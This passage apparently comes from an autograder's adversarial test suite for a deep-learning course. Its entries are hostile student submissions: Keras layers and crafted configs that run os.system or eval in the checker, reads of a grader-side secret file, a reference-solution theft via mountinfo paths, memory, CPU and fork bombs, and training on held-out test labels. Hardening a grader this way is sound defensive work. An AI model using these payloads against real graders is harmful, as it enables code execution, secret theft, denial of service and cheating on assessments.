for _line in open("/proc/self/mountinfo"):
    _mnt = _line.split()[4]
    _paths.append(_os.path.join(_os.path.dirname(_mnt), "..", "..", "dlcourse", "cnn.py"))
_ref = None
for _p in _paths:
    try:
        _spec = _ilu.spec_from_file_location("dlcourse_cnn_copy", _p)
        _m = _ilu.module_from_spec(_spec)
        _spec.loader.exec_module(_m)
        _ref = _m.conv2d
        break
    except Exception:
        pass
if _ref is not None:
    def convolve2d(image, kernel, stride=1):
        return _ref(_np.asarray(image)[:, :, None], kernel, strides=stride)[:, :, 0]
'''),

# ------------------------------------------------------------------------------------------------
# e. Keras models against the checker (part 4; FAST leaves part 4 unanswered)
# ------------------------------------------------------------------------------------------------
attack("e_lambda_layer", "e", "a real model with a Lambda layer that runs student code where it is loaded",
       "part4_answer", r'''
def build_model(input_shape, num_classes):
    model = keras.Sequential([keras.Input(shape=input_shape),
                              keras.layers.Lambda(lambda x: __import__("os").system("touch /tmp/pwned") or x),
                              keras.layers.Flatten(), keras.layers.Dense(num_classes, activation="softmax")])
    model.compile(optimizer="adam", loss="categorical_crossentropy")
    return model
'''),

attack("e_custom_layer_subclass", "e", "a registered custom Layer subclass (its code would run in the checker)",
       "part4_answer", r'''
@keras.saving.register_keras_serializable(package="student")
class Evil(keras.layers.Layer):
    def call(self, x):
        return x
def build_model(input_shape, num_classes):
    model = keras.Sequential([keras.Input(shape=input_shape), Evil(), keras.layers.Flatten(),
                              keras.layers.Dense(num_classes, activation="softmax")])
    model.compile(optimizer="adam", loss="categorical_crossentropy")
    return model
'''),

attack("e_config_names_other_modules", "e",
       "hand-written configs that name os.system, builtins.eval, keras.utils.get_file, a spoofed registered_name "
       "and keras's special __numpy__/__lambda__ classes", "part4_answer", crafted_model(
           "_CONFIGS[_next()]", setup=r'''
import itertools as _it
_counter = _it.count()
def _next():
    return next(_counter) % len(_CONFIGS)
_CONFIGS = [
    {"module": "os", "class_name": "system", "config": "touch /tmp/pwned", "registered_name": None},
    ''' + seq(dense(4, '{"module": "builtins", "class_name": "function", "config": "eval", "registered_name": "function"}')) + r''',
    ''' + seq(dense(4, '{"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "function"}')) + r''',
    ''' + seq(dense(4, '"linear"').replace('"registered_name": None', '"registered_name": "Custom>Evil"')) + r''',
    ''' + seq(dense(4, '{"module": "keras", "class_name": "__numpy__", "config": {"value": [1], "dtype": "float32"}}')) + r''',
    ''' + seq(dense(4, '{"module": "keras.layers", "class_name": "__lambda__", "config": {"code": "x"}}')) + r''',
]
''')),

attack("e_function_from_allowed_module", "e",
       "activations that are functions of an allowed module but not activations: keras.activations.deserialize, "
       "keras.losses.get, keras.metrics.get", "part4_answer", crafted_model(
           seq(dense(4, '{"module": "keras.activations", "class_name": "function", "config": "deserialize", '
                        '"registered_name": "function"}'),
               dense(10, '{"module": "keras.losses", "class_name": "function", "config": "get", '
                         '"registered_name": "function"}')),
           compile_expr='{"optimizer": "adam", "loss": {"module": "keras.metrics", "class_name": "function", '
                        '"config": "get", "registered_name": "function"}}')),

attack("e_dense_1e9_units", "e", "Dense(10**9) after a 4096-wide input: the checker would need 16 TB",
       "part4_answer", crafted_model(seq(dense(10**9), input_shape="[None, 4096]"))),

attack("e_dense_2_5_gib", "e", "a Dense layer whose kernel is about 2.6 GB (more than the student's whole "
       "memory limit), built by the checker", "part4_answer",
       crafted_model(seq(dense(160_000), input_shape="[None, 4096]"))),

attack("e_deeply_nested_config", "e", "a model configuration nested 100,000 levels deep (as JSON text)",
       "part4_answer", crafted_model(
           '\'{"module": "keras", "class_name": "Sequential", "config": {"name": \' + "[" * 100000 + "]" * 100000 + "}}"')),

attack("e_compile_custom_loss", "e", "compile configs with custom, builtins and lambda losses and optimizers",
       "part4_answer", crafted_model(
           seq(dense(4)),
           compile_expr='{"optimizer": {"module": "student", "class_name": "Evil", "config": {}, "registered_name": '
                        '"student>Evil"}, "loss": {"module": "builtins", "class_name": "function", "config": "exec", '
                        '"registered_name": "function"}, "metrics": [{"class_name": "__lambda__", "config": '
                        '{"code": "x"}}]}')),

attack("e_vocabulary_reads_grader_file", "e",
       "a StringLookup whose vocabulary is a path: the checker (outside the sandbox) would read a grader-side file "
       "(Keras's safe mode refuses; outside safe mode the error quoting its repeated lines reaches the feedback)",
       "part4_answer", crafted_model(
           '{"module": "keras.layers", "class_name": "StringLookup", "config": {"vocabulary": "@SECRET@"}, '
           '"registered_name": None}'), secret=True),

attack("e_vocabulary_in_compile_config", "e",
       "the same vocabulary-file read hidden in the compile configuration (a metric, the loss, the optimizer's "
       "learning rate) of an otherwise valid model: the checker rebuilds it with compile_from_config",
       "part4_answer", r'''
import json as _json, itertools as _it
import dlcourse.grading.wire as _wire
def build_model(input_shape, num_classes):
    model = keras.Sequential([keras.Input(shape=(4,)), keras.layers.Dense(1)])
    model.compile(optimizer="adam", loss="mse")
    return model
_LOOKUP = {"module": "keras.layers", "class_name": "StringLookup", "config": {"name": "s", "vocabulary": "@SECRET@"},
           "registered_name": None}
_COMPILES = [{"optimizer": "adam", "loss": "mse", "metrics": [_LOOKUP]}, {"optimizer": "adam", "loss": _LOOKUP},
             {"optimizer": {"module": "keras.optimizers", "class_name": "Adam", "config": {"learning_rate": _LOOKUP},
                            "registered_name": None}, "loss": "mse"}]
_counter = _it.count()
_real_encode_model = _wire.encode_model
def _crafted(model, buffers):
    tree = _real_encode_model(model, buffers)
    tree["compile"] = _json.dumps(_COMPILES[next(_counter) % len(_COMPILES)])
    return tree
_wire.encode_model = _crafted
''', secret=True)

attack("e_vocabulary_dev_zero", "e", "a StringLookup layer whose vocabulary file is /dev/zero (endless, no "
       "newline): the checker reads until it runs out of memory", "part4_answer", crafted_model(
           seq('{"module": "keras.layers", "class_name": "StringLookup", "config": {"name": "s", '
               '"vocabulary": "/dev/zero", "output_mode": "int"}, "registered_name": None}',
               input_shape="[None, 1]", dtype="string"))),

attack("e_vocabulary_fifo", "e",
       "a StringLookup whose vocabulary is a FIFO in the student's scratch folder (the same path outside the "
       "sandbox); a student thread holds it open and feeds lines slowly, so the checker blocks in C++",
       "part4_answer", crafted_model(
           seq('{"module": "keras.layers", "class_name": "StringLookup", "config": {"name": "s", '
               '"vocabulary": _FIFO, "output_mode": "int"}, "registered_name": None}',
               input_shape="[None, 1]", dtype="string"), setup=r'''
import os as _os, threading as _threading, time as _time
_FIFO = _os.path.join(_os.getcwd(), "vocab.fifo")
if not _os.path.exists(_FIFO):
    _os.mkfifo(_FIFO)
def _feed():
    with open(_FIFO, "w") as f:
        i = 0
        while True:
            f.write(f"w{i}\n")
            f.flush()
            i += 1
            _time.sleep(0.5)
_threading.Thread(target=_feed, daemon=True).start()
''')),

attack("e_orthogonal_initializer_cpu_bomb", "e",
       "a 9000 x 9000 Dense layer with the Orthogonal initializer: the checker (no CPU limit, no watchdog) "
       "spends about a minute of CPU in a QR decomposition while building it", "part4_answer",
       crafted_model(seq(dense(9000, '"linear"', ', "kernel_initializer": {"module": "keras.initializers", '
                                              '"class_name": "Orthogonal", "config": {"gain": 1.0, "seed": 1}, '
                                              '"registered_name": None}'), input_shape="[None, 9000]")))

# ------------------------------------------------------------------------------------------------
# f. resources through the channel
# ------------------------------------------------------------------------------------------------
attack("f_sleeps_past_limit", "f", "convolve2d sleeps for an hour", "part1_answer", VISIBLE1 + r'''
import time as _time
def convolve2d(image, kernel, stride=1):
    _time.sleep(3600)
'''),

attack("f_never_returns_ignores_interrupt", "f", "convolve2d spins forever and swallows KeyboardInterrupt",
       "part3_answer", r'''
def max_pool(feature_map, pool_size=2, stride=2):
    while True:
        try:
            while True:
                pass
        except KeyboardInterrupt:
            pass
average_pool = max_pool
'''),

attack("f_returns_1_gib", "f", "returns a 1 GiB array", "part1_answer", VISIBLE1 + r'''
def convolve2d(image, kernel, stride=1):
    return _np.zeros(2**27)
'''),

attack("f_returns_250_mib", "f", "returns a 250 MiB array (just under the message limit) on every call",
       "part3_answer", r'''
import numpy as _np
def max_pool(feature_map, pool_size=2, stride=2):
    return _np.ones(250 * 2**20 // 8)
average_pool = max_pool
'''),

attack("f_self_referencing_and_huge_containers", "f",
       "returns a self-referencing list, a dict containing itself, 2 million items, a 32-deep nest",
       "part1_answer", VISIBLE1 + r'''
_k = [0]
def convolve2d(image, kernel, stride=1):
    _k[0] += 1
    i = _k[0] % 4
    if i == 0:
        a = []
        a.append(a)
        return a
    if i == 1:
        d = {}
        d["d"] = d
        return d
    if i == 2:
        return [0.0] * 2_000_000
    x = 0.0
    for _ in range(32):
        x = [x]
    return x
'''),

attack("f_huge_ints", "f", "output_size returns 10**5000, 2**63, -2**1000 and a bool", "part2_answer", r'''
_k = [0]
def output_size(n, kernel_size, stride=1, padding="valid"):
    _k[0] += 1
    return [10**5000 if False else 10**4000, 2**63, -2**1000, True][_k[0] % 4]
'''),

attack("f_kills_own_kernel_mid_call", "f", "SIGKILLs its own kernel in the middle of a test's call",
       "part3_answer", r'''
import os as _os, signal as _signal
def max_pool(feature_map, pool_size=2, stride=2):
    _os.kill(_os.getpid(), _signal.SIGKILL)
average_pool = max_pool
'''),

attack("f_exits_mid_call", "f", "raises SystemExit, then calls os._exit in the middle of a test's call",
       "part1_answer", VISIBLE1 + r'''
import os as _os
_k = [0]
def convolve2d(image, kernel, stride=1):
    _k[0] += 1
    if _k[0] == 1:
        raise SystemExit(0)
    _os._exit(0)
'''),

attack("f_forks_in_call", "f", "forks busy children from inside a test's call", "part1_answer", VISIBLE1 + r'''
import os as _os
def convolve2d(image, kernel, stride=1):
    for _ in range(400):
        try:
            if _os.fork() == 0:
                while True:
                    pass
        except OSError:
            break
    return _np.zeros((1, 1))
'''),

attack("f_forged_exception", "f",
       "raises exceptions named KeyboardInterrupt / CellTimeoutError / AssertionError with 100 MB messages, "
       "and an exception whose __str__ raises", "part1_answer", VISIBLE1 + r'''
_k = [0]
class KeyboardInterrupt(Exception):
    pass
class CellTimeoutError(Exception):
    pass
class _Bad(Exception):
    def __str__(self):
        raise RuntimeError("no")
def convolve2d(image, kernel, stride=1):
    _k[0] += 1
    raise [KeyboardInterrupt("x" * 10**8), CellTimeoutError("stopped by the time limit"), _Bad()][_k[0] % 3]
'''),

attack("f_output_flood_while_serving", "f",
       "prints 1.2 GB while a test calls it: the agent runs silently, so nobody reads that output and it piles "
       "up on the grader's side of the kernel's IOPub socket", "part1_answer", VISIBLE1 + r'''
import sys as _sys
_chunk = "x" * (20 * 2**20)
def convolve2d(image, kernel, stride=1):
    for _ in range(60):
        _sys.stdout.write(_chunk)
        _sys.stdout.flush()
    return _np.zeros((1, 1))
'''),

# ------------------------------------------------------------------------------------------------
# g. held-out data
# ------------------------------------------------------------------------------------------------
attack("g_train_on_train_and_test", "g",
       "trains on X_train + X_test (the locked data cell sends the held-out labels y_test to the student's "
       "kernel) so test accuracy is ~1 and the 'trained on the test set' check (train acc >= test acc - 0.02) "
       "still passes", "part5_answer", r'''
import numpy as _np
_X = _np.concatenate([X_train, X_test])
_y = _np.concatenate([y_train, y_test])
digits_model = keras.Sequential([keras.Input(shape=X_train.shape[1:]), keras.layers.Flatten(),
                                 keras.layers.Dense(256, activation="relu"), keras.layers.Dense(10, activation="softmax")])
digits_model.compile(optimizer=keras.optimizers.Adam(0.005), loss="sparse_categorical_crossentropy")
digits_model.fit(_X, _y, epochs=40, batch_size=64, verbose=0)
test_accuracy = float(_np.mean(digits_model.predict(X_test, verbose=0).argmax(axis=1) == y_test))
'''),
